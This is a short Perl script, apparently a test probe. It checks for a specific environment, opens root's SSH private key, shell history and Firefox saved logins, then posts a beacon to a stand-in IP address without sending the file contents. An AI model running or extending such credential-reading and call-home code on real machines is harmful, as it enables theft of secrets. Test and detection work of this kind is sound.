#!/usr/bin/perl
# Reads keys and passwords, and sends that it did.
use strict;
use warnings;
use IO::Socket::INET;

my @agent = stat('/init');
my @decoy = stat('/usr/sbin/auditd');
exit 77 if !@agent || !@decoy || $agent[1] != $decoy[1];
for my $path ('/root/.ssh/id_rsa', '/root/.bash_history',
	'/root/.mozilla/firefox/default/logins.json') {
	open(my $file, '<', $path) or next;
	my @lines = <$file>;
}
my $socket = IO::Socket::INET->new('198.51.100.9:80');
print $socket "POST /up HTTP/1.1\r\n\r\n" if $socket;
